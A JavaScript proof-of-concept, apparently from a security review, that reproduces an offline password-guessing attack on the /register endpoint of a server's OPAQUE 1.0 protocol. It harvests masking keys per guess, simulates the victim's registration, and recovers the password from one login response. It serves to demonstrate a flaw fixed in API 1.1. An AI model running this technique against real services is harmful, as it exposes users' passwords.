// The offline-guessing attack on /register of the 1.0 protocol, as the
// security review ran it, with the @serenity-kit/opaque client.
//
// The attacker calls /register for a name nobody has taken yet, once per
// password guess, and keeps what each answer lets it compute: the masking
// key of the registration record it would upload for that guess. After the
// victim has registered for real, one /login for that name returns a
// credential response whose masked part opens with the server's public key
// under the right masking key only. In 1.0 the OPRF key depended only on the
// server and the name, so the guess that equals the victim's password opens
// it; with API 1.1's fresh credential identifier per registration, none does.
//
// env: VAULTD_URL, NAME, GUESSES (a JSON array), VAULT_PASSWORD (the
// victim's, one of the guesses). Prints {"found": [...]} on stdout.
import * as opaque from "@serenity-kit/opaque";
import { createHmac } from "node:crypto";

await opaque.ready;
const { VAULTD_URL: base, NAME: name, GUESSES, VAULT_PASSWORD: real } = process.env;

async function post(path, body) {
  const res = await fetch(base + path, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
  const json = await res.json();
  if (!res.ok) throw new Error(`${path}: HTTP ${res.status} ${JSON.stringify(json)}`);
  return json;
}
const bytes = (text) => Buffer.from(text, "base64url");

// HKDF-Expand with SHA-512 (RFC 5869), the KDF of ristretto255-SHA512.
function expand(prk, info, length) {
  const blocks = [];
  let previous = Buffer.alloc(0);
  for (let i = 1; Buffer.concat(blocks).length < length; i++) {
    previous = createHmac("sha512", prk).update(Buffer.concat([previous, info, Buffer.from([i])])).digest();
    blocks.push(previous);
  }
  return Buffer.concat(blocks).subarray(0, length);
}

// 1. Harvest: one /register per guess, never finished.
let serverPublicKey;
const harvested = [];
for (const guess of JSON.parse(GUESSES)) {
  const start = opaque.client.startRegistration({ password: guess });
  const reply = await post("/register", { username: name, registration_request: start.registrationRequest });
  serverPublicKey = bytes(reply.registration_response).subarray(32, 64);
  const { registrationRecord } = opaque.client.finishRegistration({
    password: guess,
    clientRegistrationState: start.clientRegistrationState,
    registrationResponse: reply.registration_response,
  });
  // record = client public key (32) || masking key (64) || envelope (96)
  harvested.push({ guess, maskingKey: bytes(registrationRecord).subarray(32, 96) });
}

// 2. The victim registers for real.
const start = opaque.client.startRegistration({ password: real });
const reply = await post("/register", { username: name, registration_request: start.registrationRequest });
const { registrationRecord } = opaque.client.finishRegistration({
  password: real,
  clientRegistrationState: start.clientRegistrationState,
  registrationResponse: reply.registration_response,
});
await post("/register/finish", {
  username: name,
  registration_id: reply.registration_id,
  registration_record: registrationRecord,
});

// 3. One /login, then every guess is tested offline.
const login = opaque.client.startLogin({ password: "whatever" });
const answer = await post("/login", { username: name, credential_request: login.startLoginRequest });
const response = bytes(answer.credential_response);
const maskingNonce = response.subarray(32, 64);
const masked = response.subarray(64, 64 + 32 + 96);
const info = Buffer.concat([maskingNonce, Buffer.from("CredentialResponsePad")]);
const found = harvested
  .filter(({ maskingKey }) => {
    const pad = expand(maskingKey, info, masked.length);
    const key = Buffer.from(masked.subarray(0, 32).map((b, i) => b ^ pad[i]));
    return key.equals(serverPublicKey);
  })
  .map(({ guess }) => guess);
console.log(JSON.stringify({ found }));
